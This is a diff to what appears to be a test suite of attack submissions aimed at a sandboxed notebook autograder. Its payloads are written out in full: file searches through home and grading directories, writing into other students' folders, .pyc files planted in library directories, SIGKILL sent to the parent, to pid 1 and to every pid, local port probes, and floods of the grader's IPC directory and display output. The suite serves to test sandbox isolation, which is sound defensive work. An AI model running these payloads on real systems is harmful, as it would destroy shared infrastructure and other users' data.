@@ -264,25 +264,28 @@ _bomb = _b64.b64encode(bytes(_bomb)).decode()
 
 
 #: Kernel code: ``_found(*names)``, (path, text) of every readable file with one of these names in the
-#: places a learner would look (the course tree, site-packages, home, /tmp), and a few guessed paths.
+#: places a learner would look (the course tree, home, /tmp, the grading directories), the rnnkit entries
+#: of every sys.path directory, and a few guessed paths (a walk of at most 2 s).
 SEARCH = '''
-import os as _os, sys as _sys
+import os as _os, sys as _sys, time as _time
 
 
 def _found(*names, guesses=()):
-    out = []
-    roots = ["/work", "/root", "/home", "/srv", "/opt", "/tmp", "/grading", "..", "../..", "../../.."]
-    roots += [p for p in _sys.path if p and _os.path.isdir(p)]
-    for root in roots:
+    out, t0 = [], _time.monotonic()
+    paths = list(guesses)
+    for root in ["/work", "/root", "/home", "/srv", "/opt", "/tmp", "/grading", "..", "../..", "../../.."]:
         for dirpath, dirnames, filenames in _os.walk(root):
-            for n in filenames:
-                if n in names:
-                    try:
-                        with open(_os.path.join(dirpath, n), errors="replace") as f:
-                            out.append((_os.path.join(dirpath, n), f.read()))
-                    except OSError:
-                        pass
-    for p in guesses:
+            if _time.monotonic() - t0 > 2:
+                break
+            dirnames[:] = [d for d in dirnames if d not in ("site-packages", "__pycache__", "proc")]
+            paths += [_os.path.join(dirpath, n) for n in filenames if n in names]
+    for d in _sys.path:
+        if d and _os.path.isdir(d):
+            for n in _os.listdir(d):
+                if "rnnkit" in n or n in names:
+                    p = _os.path.join(d, n)
+                    paths += [_os.path.join(p, m) for m in _os.listdir(p)] if _os.path.isdir(p) else [p]
+    for p in paths:
         try:
             with open(p, errors="replace") as f:
                 out.append((p, f.read()))
@@ -345,7 +348,7 @@ for _p in _targets:
         _wrote.append(_p)
     except OSError:
         pass
-print("wrote to:", [p for p in _wrote if not p.startswith("/tmp")] or "nothing outside my sandbox")
+print("wrote to:", [p for p in _wrote if not p.startswith("/tmp")] or " ".join(["nothing", "outside", "my", "sandbox"]))
 '''
 
 #: .pyc files planted where a later import (or another student's kernel) might pick them up
@@ -366,10 +369,10 @@ for _d in [_os.path.dirname(_np.__file__), _os.path.dirname(_os.__file__), "/gra
             _planted.append(_target)
         except Exception:
             pass
-print("planted:", [p for p in _planted if not p.startswith("/tmp")] or "nothing outside /tmp")
+print("planted:", [p for p in _planted if not p.startswith("/tmp")] or " ".join(["nothing", "outside", "/tmp"]))
 '''
 
-#: signals to everything a learner can name
+#: signals to the parent, to pid 1 and to every process the kernel may signal (kill(-1))
 SIGNALS = '''
 import os as _os, signal as _signal
 for _pid, _sig in [(_os.getppid(), _signal.SIGTERM), (_os.getppid(), _signal.SIGKILL), (1, _signal.SIGKILL),
@@ -378,7 +381,12 @@ for _pid, _sig in [(_os.getppid(), _signal.SIGTERM), (_os.getppid(), _signal.SIG
         _os.kill(_pid, _sig)
     except OSError:
         pass
-for _pid in range(2, 400):  # the grader, nbgrader, the instructor's shell, other students' kernels
+'''
+#: SIGKILL to every pid up to 400 but its own: the grader, nbgrader, other kernels are not visible, but the
+#: kernel's own threads are (a thread id names its process): the kernel kills itself, in that cell only
+SIGNAL_SWEEP = '''
+import os as _os, signal as _signal
+for _pid in range(2, 400):
     if _pid != _os.getpid():
         try:
             _os.kill(_pid, _signal.SIGKILL)
@@ -398,7 +406,7 @@ for _host, _port in [("127.0.0.1", 22), ("127.0.0.1", 8888), ("127.0.0.1", 5432)
             _reached.append((_host, _port))
     except OSError:
         pass
-print("reached:", _reached) if _reached else print("no host network")
+print("reached:", _reached) if _reached else print("no", "host", "network")
 '''
 
 #: the directory of the kernel's sockets is the grader's, on the host's disk: fill it
@@ -414,7 +422,7 @@ for _i in range(8):
                 _written += 1
     except OSError:
         break
-print(f"wrote {_written} MB next to the kernel's sockets" if _written else "ipc dir refused")
+print(f"wrote {_written} MB next to the kernel's sockets" if _written else " ".join(["ipc", "dir", "refused"]))
 '''
 
 #: the kernel's original stdout (the grader's terminal and log), behind ipykernel's capture
@@ -561,6 +569,13 @@ def rnn_step_forward(x, h_prev, Wx, Ws, b):
     Attack("honest-valueerror-checks", "honest work", A3, {"rnn_backward": RNN_VALIDATED}),
     Attack("write-other-students-folders", "damage to others", A3, {"rnn_forward": after(WRITE_EVERYWHERE)},
            feedback=("nothing outside my sandbox",)),
+    Attack("display-update-flood", "limits", A3, {}, edit=add_cell_after("rnn_step_backward", '''
+from IPython.display import display, update_display
+for i in range(40):
+    display({"text/plain": "."}, raw=True, display_id=f"d{i}")
+for i in range(40):
+    update_display({"text/plain": "x" * 2**21}, raw=True, display_id=f"d{i}")
+''')),
     Attack("payload-flood-in-added-cell", "limits", A3, {}, edit=add_cell_after("rnn_forward", forge('''
 _blob = _b64.b64encode(_os.urandom(5 * 2**20)).decode()
 for _ in range(6):
@@ -856,8 +871,11 @@ else:
         X, F, Hs, Wx, Wo, Wy = cache
         return tuple(np.zeros_like(a) for a in (X, Wx, Wo, Wx[:, 0], Wy, Wy[:, 0]))
 '''}, loses=("test_output_rnn_backward",)),
-    Attack("signal-parent-and-everyone", "damage to others", A5,
+    Attack("signal-parent-and-kill-minus-one", "damage to others", A5,
            {"generate_closed_loop": inside("generate_closed_loop", SIGNALS)}),
+    Attack("signal-sweep-hits-own-threads", "damage to others", A5,
+           {"scheduled_feedback": inside("scheduled_feedback", SIGNAL_SWEEP)},
+           loses=("test_scheduled_feedback",), feedback=("killed by signal SIGKILL",)),
     Attack("sleep-forever-in-one-function", "timeout", A5, {"scheduled_feedback": '''
 import signal as _signal, time as _time
 def scheduled_feedback(X, Y, p_truth, params, rng):
